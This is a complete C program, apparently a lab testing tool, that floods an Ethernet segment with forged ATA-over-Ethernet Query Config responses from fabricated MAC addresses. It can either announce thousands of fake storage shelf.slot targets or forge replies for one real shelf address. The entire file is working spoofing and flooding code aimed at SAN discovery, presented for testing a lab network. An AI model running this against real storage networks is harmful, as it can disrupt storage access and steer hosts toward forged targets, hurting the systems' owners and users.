/* lab-spoof: flood a lab's Ethernet with made-up AoE Query Config replies, as any host on
 * a SAN can: COUNT replies, each as another shelf.slot (e1000.0 on, 250 slots a shelf) from
 * another made-up MAC, broadcast, at most RATE a second (0: at full speed).  Prints
 * "sent N".  With SHELF.SLOT every reply names that address (each from another MAC): a
 * forged answer for a real shelf.
 *   lab-spoof IFACE COUNT [RATE [SHELF.SLOT]] */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef ETH_P_AOE
#define ETH_P_AOE 0x88a2
#endif

int main(int argc, char **argv)
{
  if (argc < 3) {
    fprintf(stderr, "usage: lab-spoof IFACE COUNT [RATE [SHELF.SLOT]]\n");
    return 2;
  }
  long count = atol(argv[2]), rate = argc > 3 ? atol(argv[3]) : 5000;
  unsigned only_shelf = 0, only_slot = 0;
  int one_address = argc > 4 && sscanf(argv[4], "%u.%u", &only_shelf, &only_slot) == 2;
  if (argc > 4 && !one_address) {
    fprintf(stderr, "lab-spoof: %s: expected SHELF.SLOT\n", argv[4]);
    return 2;
  }
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_AOE));
  if (fd < 0) { perror("lab-spoof: socket"); return 1; }
  struct ifreq ifr = { 0 };
  snprintf(ifr.ifr_name, IFNAMSIZ, "%s", argv[1]);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) { perror(argv[1]); return 1; }
  struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_AOE),
                             .sll_ifindex = ifr.ifr_ifindex };
  if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) { perror("lab-spoof: bind"); return 1; }

  uint8_t frame[60] = { 0 };
  memset(frame, 0xff, 6);               /* to everyone */
  frame[6] = 0x02; frame[7] = 0x5f;     /* a locally administered source, made up below */
  frame[12] = 0x88; frame[13] = 0xa2;
  frame[14] = 0x18;                     /* version 1, response */
  frame[19] = 1;                        /* Query Config */
  frame[25] = 16;                       /* bufcnt 16 */
  frame[28] = 2;                        /* sectors per frame */
  frame[29] = 0x10;                     /* AoE version 1, config read */
  long sent = 0;
  struct timespec gap = { 0, rate > 0 ? 1000000000L / rate : 0 };
  for (long i = 0; i < count; i++) {
    unsigned shelf = one_address ? only_shelf : 1000 + (unsigned)(i / 250);
    unsigned slot = one_address ? only_slot : (unsigned)(i % 250);
    frame[8] = (uint8_t)(i >> 24); frame[9] = (uint8_t)(i >> 16);
    frame[10] = (uint8_t)(i >> 8); frame[11] = (uint8_t)i;
    frame[16] = (uint8_t)(shelf >> 8); frame[17] = (uint8_t)shelf;
    frame[18] = (uint8_t)slot;
    uint32_t tag = htonl((uint32_t)i);
    memcpy(frame + 20, &tag, 4);
    if (send(fd, frame, sizeof frame, 0) == sizeof frame)
      sent++;
    if (gap.tv_nsec)
      nanosleep(&gap, NULL);
  }
  printf("sent %ld\n", sent);
  return sent == count ? 0 : 1;
}
